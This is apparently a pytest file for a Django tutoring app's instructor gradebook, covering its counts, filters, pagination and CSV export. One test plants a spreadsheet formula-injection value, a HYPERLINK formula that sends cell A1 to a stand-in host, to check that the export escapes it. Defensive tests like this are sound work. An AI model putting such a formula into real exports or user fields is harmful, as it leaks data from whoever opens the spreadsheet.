"""The instructors' gradebook and its CSV export, on a small course built by
hand so that every number can be checked exactly."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from exercises.models import QuizAttempt, Submission
from tests.factories import StudentFactory
from tests.tutor.gradebook_course import activity, instructor_client, small_course
from tutor.gradebook import Gradebook, GradebookFilter, StudentRow, gradebook_build
from tutor.selectors import mastery_by_topic

pytestmark = pytest.mark.django_db
__all__ = ["activity", "small_course"]  # fixtures


def rows_by_name(book: Gradebook) -> dict[str, StudentRow]:
    return {row.student.username: row for row in book.rows}


def test_it_counts_attempts_correct_mastery_best_scores_and_exams(
    activity, student, other_student, instructor
) -> None:
    book = gradebook_build(filters=GradebookFilter())
    assert [t.code for t in book.topics] == ["6.10", "7.3"]
    assert [e.slug for e in book.exercises] == ["iou"]
    rows = rows_by_name(book)
    assert set(rows) == {"alice", "bob"}  # the instructor is not a student
    alice, bob = rows["alice"], rows["bob"]
    assert [(c.attempts, c.correct, c.mastered, c.questions) for c in alice.topics] == [
        (3, 2, 2, 2),
        (1, 1, 1, 1),
    ]
    assert [(c.attempts, c.correct, c.mastered, c.questions) for c in bob.topics] == [
        (3, 0, 0, 2),
        (0, 0, 0, 1),
    ]
    assert alice.best == [0.9] and bob.best == [0.3]
    assert alice.exams.count == 2 and alice.exams.best == 0.75
    assert alice.exams.mean == pytest.approx(0.625)
    assert alice.exams.by_topic == [pytest.approx(0.75), pytest.approx(1.0)]
    assert bob.exams.count == 0 and bob.exams.by_topic == [None, None]


def test_mastery_is_the_number_the_student_sees_on_the_dashboard(
    activity, student, other_student
) -> None:
    book = gradebook_build(filters=GradebookFilter())
    for row in book.rows:
        dashboard = {m.topic.code: m.share for m in mastery_by_topic(user=row.student)}
        mine = {t.code: c.mastery for t, c in zip(book.topics, row.topics, strict=True)}
        assert mine == {code: dashboard[code] for code in mine}
    assert rows_by_name(book)["alice"].topics[0].mastery == 1.0


def test_filters_by_topic_lecture_and_dates(activity, student, other_student) -> None:
    c = activity
    by_topic = gradebook_build(filters=GradebookFilter(topic=c["cosine"]))
    assert [t.code for t in by_topic.topics] == ["7.3"] and by_topic.exercises == []
    by_lecture = gradebook_build(filters=GradebookFilter(lecture=c["yolo"].lecture))
    assert [t.code for t in by_lecture.topics] == ["6.10"]
    # bob's choice answer and his 0.3 submission move to ten days ago.
    ten_days_ago = timezone.now() - timedelta(days=10)
    QuizAttempt.objects.filter(user=other_student, question=c["choice"]).update(
        created_at=ten_days_ago
    )
    Submission.objects.filter(user=other_student, score=0.3).update(
        created_at=ten_days_ago
    )
    today = timezone.localdate()
    recent = rows_by_name(gradebook_build(filters=GradebookFilter(start=today)))
    assert recent["bob"].topics[0].attempts == 2 and recent["bob"].best == [None]
    assert recent["alice"].topics[0].attempts == 3
    old = rows_by_name(
        gradebook_build(filters=GradebookFilter(end=today - timedelta(days=9)))
    )
    assert old["bob"].topics[0].attempts == 1 and old["bob"].best == [0.3]
    assert old["alice"].topics[0].attempts == 0 and old["alice"].exams.count == 0


def table(page: str, table_id: str) -> str:
    start = page.index(f'id="{table_id}"')
    return page[start : page.index("</table>", start)]


def test_the_gradebook_page_shows_the_table_and_filters(
    activity, instructor, student
) -> None:
    client = instructor_client(instructor)
    page = client.get("/instructor/gradebook/").content.decode()
    quiz = table(page, "quiz-table")
    assert "alice" in quiz and "bob" in quiz and "carol" not in quiz
    assert "2/3" in quiz and "100% mastery" in quiz
    assert "90%" in table(page, "coding-table")
    assert "63%" in table(page, "exam-table")  # alice: mean of 0.5 and 0.75, halves up
    filtered = client.get(
        "/instructor/gradebook/", {"topic": activity["cosine"].pk}
    ).content.decode()
    assert "7.3" in filtered and ">6.10<" not in filtered
    bad = client.get(
        "/instructor/gradebook/", {"start": "2030-01-02", "end": "2030-01-01"}
    )
    assert (
        bad.status_code == 200
        and "first day comes after the last" in bad.content.decode()
    )
    detail = client.get(
        f"/instructor/gradebook/students/{student.pk}/"
    ).content.decode()
    assert "option 1" in detail and "option 2" in detail  # alice chose 0, then 1
    assert detail.count("/submissions/") == 2 and "When?" in detail
    assert "Paper" in detail and "in progress" in detail
    assert (
        client.get(f"/instructor/gradebook/students/{instructor.pk}/").status_code
        == 404
    )


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_csv_has_one_row_per_student_and_a_column_per_topic_and_exercise(
    activity, instructor
) -> None:
    response = instructor_client(instructor).get(
        "/instructor/gradebook.csv", {"lecture": activity["yolo"].lecture.pk}
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="gradebook-lecture-6-')
    header, *rows = read_csv(response)
    assert header == [
        "username", "first name", "last name", "email",
        "6.10 attempts", "6.10 correct", "6.10 mastery", "iou best score",
        "mock exams", "mock exam mean", "mock exam best", "6.10 mock exam mean",
    ]  # fmt: skip
    assert rows == [
        ["alice", "", "", "alice@example.com", "3", "2", "1.0", "0.9", "2", "0.625", "0.75", "0.75"],
        ["bob", "", "", "bob@example.com", "3", "0", "0.0", "0.3", "0", "", "", ""],
    ]  # fmt: skip


def test_the_csv_neutralises_cells_a_spreadsheet_would_run(
    small_course, instructor
) -> None:
    StudentFactory(
        username="@evil",
        first_name='=HYPERLINK("http://x.example/?"&A1,"click")',
        last_name="+1-2",
        email="-x@example.com",
    )
    _, row = read_csv(instructor_client(instructor).get("/instructor/gradebook.csv"))
    assert row[:4] == [
        "'@evil",
        '\'=HYPERLINK("http://x.example/?"&A1,"click")',
        "'+1-2",
        "'-x@example.com",
    ]
    assert row[4] == "0"  # numbers are left as numbers


def test_a_csv_asked_with_a_bad_filter_is_refused(small_course, instructor) -> None:
    response = instructor_client(instructor).get(
        "/instructor/gradebook.csv", {"start": "2030-01-02", "end": "2030-01-01"}
    )
    assert response.status_code == 400
    assert "first day comes after the last" in response.content.decode()


def test_the_gradebook_shows_a_page_of_students_and_the_csv_all_of_them(
    small_course, instructor
) -> None:
    """Fifty students a page, in name order, the filters kept in the links;
    a page number that is not one shows the first or the last page."""
    from tutor.views.instructor import GRADEBOOK_PAGE

    for number in range(60):
        StudentFactory(username=f"zz-{number:03d}")
    total = gradebook_build(filters=GradebookFilter()).rows
    client = instructor_client(instructor)
    first = client.get("/instructor/gradebook/").content.decode()
    shown = table(first, "quiz-table").count('scope="row"')
    assert shown == GRADEBOOK_PAGE == 50
    assert f"{len(total)} students" in first
    assert f"Students 1–50 of {len(total)} (page 1 of 2)" in first
    assert first.count('rel="next"') == 2 and 'rel="prev"' not in first
    topic = small_course["yolo"]
    second = client.get(
        "/instructor/gradebook/", {"topic": topic.pk, "page": "2"}
    ).content.decode()
    assert table(second, "quiz-table").count('scope="row"') == len(total) - 50
    assert "page 2 of 2" in second and 'rel="prev"' in second
    assert f"?topic={topic.pk}&amp;page=1" in second  # the filter kept
    assert "zz-059" in second and "zz-059" not in first
    for odd in ("0", "-1", "x", "999", "1.5", "²"):
        response = client.get("/instructor/gradebook/", {"page": odd})
        assert response.status_code == 200
    csv_rows = read_csv(client.get("/instructor/gradebook.csv"))
    assert len(csv_rows) == 1 + len(total)
